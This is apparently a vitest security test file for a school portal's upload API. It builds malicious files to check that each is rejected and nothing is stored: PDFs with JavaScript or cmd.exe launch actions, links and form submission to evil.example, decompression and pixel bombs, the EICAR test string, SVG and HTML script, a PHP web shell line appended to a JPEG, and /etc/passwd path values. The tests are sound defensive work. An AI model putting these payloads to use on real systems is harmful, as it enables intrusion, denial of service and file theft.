import { request } from 'node:http'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fileMessages } from '@/lib/file-messages'
import {
  filesIn,
  formOf,
  handmadePdf,
  makeImage,
  makeMp4,
  makePdf,
  materialFields,
  named,
  packedStream,
  type Upload,
} from '@/tests/support/material/files'
import { makePortal, type Portal } from '@/tests/support/machine/portal'

/** Files that are not what they say, or more: each is refused with its sentence, and nothing of it stays. */

const eicar = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-' + 'ANTIVIRUS-TEST-FILE!$H+H*')
const zip = Buffer.from('504b0506000000000000000000000000000000000000', 'hex')
const html = Buffer.from('<!doctype html><html><script>alert(1)</script></html>')
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>')

const [pdf, mp4, jpeg, png] = [await makePdf(), makeMp4(), await makeImage('jpeg'), await makeImage('png')]
const raw = await makePdf('plain', { compress: false })
const gif = await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
  .gif()
  .toBuffer()
const webp = await sharp(png).webp().toBuffer()
const attached = await makePdf('a', {}, (paper) => void paper.file(Buffer.from('MZ not a page'), { name: 'setup.exe' }))

const swapped = (bytes: Buffer, from: string, to: string) =>
  Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1')
const changed = (bytes: Buffer, change: (copy: Buffer) => void) => {
  const copy = Buffer.from(bytes)
  change(copy)
  return copy
}
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as Buffer)))
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length >> 1)
const at = (bytes: Buffer, text: string) => bytes.indexOf(text, 0, 'latin1')
/** pdfkit's plain catalog has room for an entry of the same length; the places of the objects then still fit. */
const withCatalog = (entry: string) => {
  const text = raw.toString('latin1')
  const start = text.search(/\n\d+ 0 obj\n<<\n\/Producer/)
  const end = text.indexOf('endobj', start)
  const object = text.slice(start, end)
  const number = /\n(\d+ 0 obj)/.exec(object)?.[1] ?? ''
  return Buffer.from(
    text.slice(0, start) + `\n${number}\n<<\n${entry}\n>>\n`.padEnd(object.length, ' ') + text.slice(end),
    'latin1',
  )
}

/** A list of objects that unpacks to 200 MB. */
function bomb() {
  const packed = deflateSync(Buffer.alloc(200 * 1024 * 1024, 0x20))
  const head = `%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`
  const body = join(head, packed, '\nendstream\nendobj\n')
  return join(body, `2 0 obj\n<</Type/XRef>>\nendobj\nstartxref\n${body.length}\n%%EOF\n`)
}

/** A picture of 50,000 × 50,000 pixels in a few bytes. */
function pixelBomb() {
  return changed(png, (copy) => {
    copy.writeUInt32BE(50_000, 16)
    copy.writeUInt32BE(50_000, 20)
    const table = Array.from({ length: 256 }, (_, n) =>
      Array.from({ length: 8 }).reduce<number>((c) => (c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1), n),
    )
    const crc = copy.subarray(12, 29).reduce((c, byte) => (table[(c ^ byte) & 255] ?? 0) ^ (c >>> 8), -1)
    copy.writeInt32BE(~crc, 29)
  })
}

const { PDF: notPdf, Video: notVideo, Image: notImage } = fileMessages.notReal
const { PDF: badPdf, Video: badVideo, Image: badImage } = fileMessages.damaged
const { mixed, active, harmful, opensByItself: opens } = fileMessages
const chooseMaterial = 'Please choose a PDF (.pdf) or a video (.mp4).'
const choosePicture = 'Please choose a picture (.jpg, .jpeg or .png).'

const uri = '<</S/URI/URI(https://evil.example)>>'
/** Objects in a packed list, which is number 5: the first of them is `number`. */
const listed = (number: number, body: string) => {
  const head = `${number} 0 `
  return packedStream(deflateSync(Buffer.from(head + body)), `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`)
}
/** 150 MB of blanks in 150 kB. */
const blanks = deflateSync(Buffer.alloc(150 * 1024 * 1024, 0x20))
const ascii85 = (bytes: Buffer) => {
  let text = ''
  for (let at = 0; at + 4 <= bytes.length; at += 4) {
    const value = bytes.readUInt32BE(at)
    text += [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(value / 85 ** power) % 85))).join('')
  }
  return Buffer.from(`${text}~>`)
}

type Case = [what: string, file: Upload, message: string, status?: number]

const materials: Case[] = [
  ['a page of HTML as .pdf', named('a.pdf', html), notPdf],
  ['an empty PDF', named('a.pdf', Buffer.alloc(0)), fileMessages.empty],
  ['the first half of a PDF', named('a.pdf', half(pdf)), badPdf],
  ['the header of a PDF alone', named('a.pdf', Buffer.from('%PDF-1.7\n')), badPdf],
  ['a PDF without its last line', named('a.pdf', pdf.subarray(0, pdf.lastIndexOf('%%EOF'))), badPdf],
  ['a PDF whose middle is gone', named('a.pdf', join(pdf.subarray(0, 300), pdf.subarray(500))), badPdf],
  ['a PDF that names a wrong place', named('a.pdf', swapped(pdf, 'startxref\n', 'startxref\n9')), badPdf],
  ['a PDF without pages', named('a.pdf', swapped(swapped(raw, '/Count 1', '/Count 0'), '/Kids [', '/Kigs [')), badPdf],
  ['a PDF with something before it', named('a.pdf', join(html, pdf)), notPdf],
  ['a PDF with HTML behind it', named('a.pdf', join(pdf, html)), mixed],
  ['a PDF that is a ZIP archive too', named('a.pdf', join(pdf, zip)), mixed],
  [
    'a PDF that runs a script',
    named('a.pdf', withCatalog('/OpenAction <</S /JavaScript /JS (app.alert(1))>>')),
    active,
  ],
  ['a PDF that hides its script', named('a.pdf', withCatalog('/OpenAction <</S /J#61vaScript /#4aS (x)>>')), active],
  ['a PDF that starts a program', named('a.pdf', withCatalog('/OpenAction <</S /Launch /F (cmd.exe)>>')), active],
  ['a PDF with a program attached', named('a.pdf', attached), active],
  ['a PDF that opens an address', named('a.pdf', handmadePdf({ entry: `/OpenAction ${uri}` })), opens],
  [
    'a PDF that opens an address, said elsewhere',
    named('a.pdf', handmadePdf({ entry: '/OpenAction 5 0 R', objects: [uri] })),
    opens,
  ],
  [
    'a PDF that opens an address, said in a packed list',
    named('a.pdf', handmadePdf({ entry: '/OpenAction 9 0 R', objects: [listed(9, uri)] })),
    opens,
  ],
  [
    'a PDF that opens an address after a harmless step',
    named('a.pdf', handmadePdf({ entry: '/OpenAction 5 0 R', objects: ['<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>', uri] })),
    opens,
  ],
  [
    'a PDF that hides the address behind a comment',
    named('a.pdf', handmadePdf({ entry: '/OpenAction %\n5 0 R', objects: [uri] })),
    opens,
  ],
  [
    'a PDF that hides the address behind a name',
    named(
      'a.pdf',
      handmadePdf({ entry: '/Open#41ction 5 0 R', objects: ['<</S/#55RI/U#52I(https://evil.example)>>'] }),
    ),
    opens,
  ],
  [
    'a PDF whose page opens an address',
    named('a.pdf', handmadePdf({ page: '/AA 5 0 R', objects: ['<</O 6 0 R>>', uri] })),
    opens,
  ],
  [
    'a PDF that opens another file',
    named('a.pdf', handmadePdf({ entry: '/OpenAction <</S/GoToR/F(\\\\evil.example\\share)>>' })),
    opens,
  ],
  [
    'a PDF that sends what is filled in',
    named('a.pdf', handmadePdf({ page: '/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>]' })),
    active,
  ],
  [
    'a PDF whose page unpacks to 600 MB',
    named(
      'a.pdf',
      handmadePdf({ page: '/Contents[5 0 R 6 0 R 7 0 R 8 0 R]', objects: Array<Buffer>(4).fill(packedStream(blanks)) }),
    ),
    harmful,
  ],
  [
    'a PDF whose page of 600 MB says it is pictures',
    named(
      'a.pdf',
      handmadePdf({
        page: '/Contents[5 0 R 6 0 R 7 0 R 8 0 R]',
        objects: Array<Buffer>(4).fill(packedStream(blanks, '/Subtype/Image/Width 1/Height 1/Filter/FlateDecode')),
      }),
    ),
    harmful,
  ],
  [
    'a PDF packed twice',
    named(
      'a.pdf',
      handmadePdf({
        page: '/Contents 5 0 R',
        objects: [packedStream(deflateSync(blanks), '/Filter[/FlateDecode/FlateDecode]')],
      }),
    ),
    harmful,
  ],
  [
    'a PDF packed and written in letters',
    named(
      'a.pdf',
      handmadePdf({
        page: '/Contents 5 0 R',
        objects: [packedStream(ascii85(blanks), '/Filter[/ASCII85Decode/FlateDecode]')],
      }),
    ),
    harmful,
  ],
  [
    'a PDF packed as runs',
    named(
      'a.pdf',
      handmadePdf({
        page: '/Contents 5 0 R',
        objects: [packedStream(Buffer.alloc(2_400_000, Buffer.from([129, 0x20])), '/Filter/RunLengthDecode')],
      }),
    ),
    harmful,
  ],
  [
    'a PDF with a password',
    named('a.pdf', await makePdf('secret', { userPassword: 'x', ownerPassword: 'y' })),
    fileMessages.protected,
  ],
  ['a PDF that unpacks to 200 MB', named('a.pdf', bomb()), harmful],
  ['the test virus as .pdf', named('a.pdf', eicar), harmful],
  ['the test virus in a PDF', named('a.pdf', swapped(pdf, '%%EOF', `%${eicar.toString('latin1')}\n%%EOF`)), harmful],
  ['an archive as .pdf', named('a.pdf', join('PK\x03\x04', Buffer.alloc(64), zip)), notPdf],
  [
    'a PDF of 20 MB and a byte',
    named('a.pdf', join(pdf, Buffer.alloc(20 * 1024 * 1024 + 1 - pdf.length))),
    'A PDF can have at most 20 MB.',
    413,
  ],
  ['HTML that says it is a PDF', { name: 'a.pdf', type: 'application/pdf', bytes: html }, notPdf],
  ['a program', { name: 'a.pdf.exe', type: 'application/pdf', bytes: pdf }, chooseMaterial],
  ['a file without an ending', { name: 'pdf', type: 'application/pdf', bytes: pdf }, chooseMaterial],
  [
    'a picture among the materials',
    named('a.png', png),
    `${chooseMaterial} Open the document or picture, and save or print it as a PDF.`,
  ],
  ['HTML as .mp4', named('a.mp4', html), notVideo],
  ['a picture as .mp4', named('a.mp4', jpeg), notVideo],
  ['the first half of a video', named('a.mp4', half(mp4)), badVideo],
  ['the type box of a video alone', named('a.mp4', mp4.subarray(0, mp4.readUInt32BE(0))), badVideo],
  ['a video without its table', named('a.mp4', swapped(mp4, 'moov', 'free')), badVideo],
  ['a video with a ZIP behind it', named('a.mp4', join(mp4, zip)), mixed],
  ['a video with HTML behind it', named('a.mp4', join(mp4, html)), mixed],
  [
    'a video whose box is larger than itself',
    named(
      'a.mp4',
      changed(mp4, (copy) => copy.writeUInt32BE(0x7fffffff, at(mp4, 'moov') - 4)),
    ),
    badVideo,
  ],
  [
    'a video that points outside of itself',
    named(
      'a.mp4',
      changed(mp4, (copy) => copy.writeUInt32BE(0x7fffffff, at(mp4, 'stco') + 12)),
    ),
    badVideo,
  ],
  ['a video of sound only', named('a.mp4', swapped(mp4, 'vide\0', 'soun\0')), fileMessages.noVideo],
  [
    'a picture in a film’s clothes (HEIC)',
    named('a.mp4', swapped(swapped(swapped(mp4, 'isom', 'heic'), 'iso2', 'mif1'), 'avc1mp41', 'heicheic')),
    notVideo,
  ],
]

const pictures: Case[] = [
  ['a drawing that runs scripts, as .svg', { name: 'a.svg', type: 'image/svg+xml', bytes: svg }, choosePicture],
  ['a drawing as .png', named('a.png', svg), notImage],
  ['a drawing that says what it is', { name: 'a.png', type: 'image/svg+xml', bytes: svg }, notImage],
  ['HTML as .jpg', named('a.jpg', html), notImage],
  ['a GIF as .png', named('a.png', gif), notImage],
  ['a WebP as .jpg', named('a.jpg', webp), notImage],
  ['the first half of a JPEG', named('a.jpg', half(jpeg)), badImage],
  ['the first half of a PNG', named('a.png', half(png)), badImage],
  [
    'a PNG with wrong pixels',
    named(
      'a.png',
      changed(png, (copy) => copy.fill(0x5a, 200, 1200)),
    ),
    badImage,
  ],
  [
    'a picture of 2,500 million pixels',
    named('a.png', pixelBomb()),
    'This picture has too many pixels. Please make it smaller first.',
  ],
  ['a JPEG with a ZIP behind it', named('a.jpg', join(jpeg, 'PK\x03\x04', Buffer.alloc(40), zip)), mixed],
  ['a JPEG with PHP behind it', named('a.jpg', join(jpeg, '<?php system($_GET[1]);')), mixed],
  [
    'a JPEG with a script in its comment',
    named(
      'a.jpg',
      join(jpeg.subarray(0, 2), Buffer.from('fffe001b', 'hex'), '<script>alert(1)</script>', jpeg.subarray(2)),
    ),
    mixed,
  ],
  ['a PNG with a PDF behind it', named('a.png', join(png, pdf)), mixed],
  ['the test virus behind a PNG', named('a.png', join(png, eicar)), harmful],
  [
    'a picture of 10 MB and a byte',
    named('a.jpg', join(jpeg, Buffer.alloc(10 * 1024 * 1024 + 1 - jpeg.length))),
    'A picture can have at most 10 MB.',
    413,
  ],
  ['a PDF in the gallery', named('a.pdf', pdf), choosePicture],
]

let portal: Portal
let bearer: string

beforeAll(async () => {
  portal = await makePortal()
  await portal.start()
  bearer = await portal.bearer()
})
afterAll(() => portal.remove())

async function send(path: string, body: FormData | string, headers: Record<string, string> = {}) {
  const response = await fetch(portal.url + path, {
    method: 'POST',
    headers: { authorization: `Bearer ${bearer}`, ...headers },
    body,
  })
  return { status: response.status, body: (await response.json()) as { message?: string } }
}

async function expectNothingLeft() {
  expect(filesIn(portal.folder)).toEqual([])
  expect(await portal.sql('SELECT id FROM "StoredFile"')).toEqual([])
}

it('has enough of them', () => expect(materials.length + pictures.length).toBeGreaterThanOrEqual(30))

describe('study materials', () => {
  it.each(materials)('%s', async (_what, file, message, status = 415) => {
    const type = file.name.endsWith('.mp4') ? 'Video' : 'PDF'
    expect(await send('/api/study-materials/upload', formOf({ ...materialFields, type }, file))).toMatchObject({
      status,
      body: { message },
    })
    await expectNothingLeft()
  })
})

describe('the gallery', () => {
  it.each(pictures)('%s', async (_what, file, message, status = 415) => {
    expect(await send('/api/gallery', formOf({ title: 'A picture' }, file))).toMatchObject({
      status,
      body: { message },
    })
    await expectNothingLeft()
  })
})

describe('PDFs as programs write them', () => {
  const link = '<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://school.example)>>>>'
  it.each([
    [
      'that open at a page with a link',
      handmadePdf({ entry: '/OpenAction <</S/GoTo/D[3 0 R/Fit]>>', page: `/Contents 4 0 R/Annots[${link}]` }),
    ],
    ['that open at a place', handmadePdf({ entry: '/OpenAction [3 0 R /Fit]' })],
    [
      'that open at a place said elsewhere',
      handmadePdf({ entry: '/OpenAction 5 0 R', objects: ['<</S/GoTo/D[3 0 R/Fit]>>'] }),
    ],
    [
      'with a text in letters',
      handmadePdf({
        page: '/Contents 5 0 R',
        objects: [
          packedStream(
            ascii85(Buffer.concat([deflateSync(Buffer.from('q Q ')), Buffer.alloc(4)])),
            '/Filter[/ASCII85Decode/FlateDecode]',
          ),
        ],
      }),
    ],
    [
      'with a picture of 150 MB',
      handmadePdf({
        page: '/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>',
        objects: [packedStream(blanks, '/Subtype/Image/Width 7000/Height 7000/Filter/FlateDecode')],
      }),
    ],
  ])('%s are taken', async (_what, bytes) => {
    const { status, body } = await send(
      '/api/promotions',
      formOf({ type: 'PDF', title: 'T', description: 'D' }, named('a.pdf', bytes)),
    )
    expect(status, JSON.stringify(body)).toBe(201)
    const { promotion } = body as { promotion: { id: string } }
    await fetch(`${portal.url}/api/promotions/${promotion.id}`, {
      method: 'DELETE',
      headers: { authorization: `Bearer ${bearer}` },
    })
    await expectNothingLeft()
  })
})

describe('a photo with a film behind it, as phones make them', () => {
  it('is taken, whatever short words its bytes happen to spell', async () => {
    const film = join(mp4, Buffer.alloc(64), '#!/ <svg\0 \x7fELF\0 PK\x05\x06\x09 PK\x03\x04\xff', Buffer.alloc(64))
    const { status, body } = await send(
      '/api/gallery',
      formOf({ title: 'A picture' }, named('a.jpg', join(jpeg, film))),
    )
    expect(status, JSON.stringify(body)).toBe(201)
    const { image } = body as { image: { id: string } }
    await fetch(`${portal.url}/api/gallery/${image.id}`, {
      method: 'DELETE',
      headers: { authorization: `Bearer ${bearer}` },
    })
    await expectNothingLeft()
  })
})

describe('promotions', () => {
  it.each([
    ['a PDF as a video', 'Video', named('a.pdf', pdf), 'Promotional content of type Video needs an .mp4 file.'],
    ['a picture as a PDF', 'PDF', named('a.png', png), 'Promotional content of type PDF needs a .pdf file.'],
    ['a drawing as a picture', 'Image', named('a.png', svg), notImage],
  ] as const)('%s', async (_what, type, file, message) => {
    expect(await send('/api/promotions', formOf({ type, title: 'T', description: 'D' }, file))).toMatchObject({
      status: 415,
      body: { message },
    })
    await expectNothingLeft()
  })
})

describe('forms', () => {
  const good = named('a.pdf', pdf)

  it('whose file is fine and whose fields are not leave nothing', async () => {
    const { title: _title, ...rest } = materialFields
    expect(await send('/api/study-materials/upload', formOf(rest, good))).toMatchObject({
      status: 400,
      body: { message: 'Please fill in all required fields.', errors: { title: 'This field is required.' } },
    })
    await expectNothingLeft()
  })

  it('without a file, or with two', async () => {
    expect(await send('/api/study-materials/upload', formOf(materialFields))).toMatchObject({ status: 400 })
    const two = formOf(materialFields, good)
    two.append('file', new Blob([new Uint8Array(pdf)]), 'b.pdf')
    expect(await send('/api/study-materials/upload', two)).toMatchObject({
      status: 400,
      body: { message: 'Please send one file.' },
    })
    await expectNothingLeft()
  })

  it('that name a file of the server instead of sending one', async () => {
    for (const file of [
      { name: 'a.pdf', type: 'application/pdf', size: 9, path: '/etc/passwd' },
      { key: 'portal-x', name: 'a.pdf', type: '' },
      '/etc/passwd',
    ])
      expect(
        await send('/api/study-materials/upload', JSON.stringify({ ...materialFields, file }), {
          'content-type': 'application/json',
        }),
      ).toMatchObject({ status: 400 })
  })

  it.each([
    ['no boundary', 'multipart/form-data', 'x'],
    ['another boundary', 'multipart/form-data; boundary=abc', '--def\r\n\r\nx'],
    [
      'an end too early',
      'multipart/form-data; boundary=b',
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4',
    ],
    [
      'fields without end',
      'multipart/form-data; boundary=b',
      '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n'.repeat(60) + '--b--\r\n',
    ],
    [
      'a field of 2 MB',
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="title"\r\n\r\n${'x'.repeat(2_000_000)}\r\n--b--\r\n`,
    ],
    [
      'a field named __proto__',
      'multipart/form-data; boundary=b',
      '--b\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\nx\r\n--b--\r\n',
    ],
  ])('that are malformed: %s', async (_what, type, body) => {
    const { status, body: answer } = await send('/api/gallery', body, { 'content-type': type })
    expect([400, 413]).toContain(status)
    expect(answer.message).toMatch(/^[A-Z].+\.$/)
    await expectNothingLeft()
  })

  it('of somebody who may not are refused before they are read', async () => {
    const status = await new Promise((resolve, reject) => {
      const headers = { 'content-type': 'multipart/form-data; boundary=b', 'content-length': 1_000_000 }
      const call = request(`${portal.url}/api/gallery`, { method: 'POST', headers }, (response) => {
        resolve(response.statusCode)
        call.destroy()
      })
      call.on('error', reject)
      // Nothing of the body ever follows.
      call.flushHeaders()
    })
    expect(status).toBe(401)
  })
})
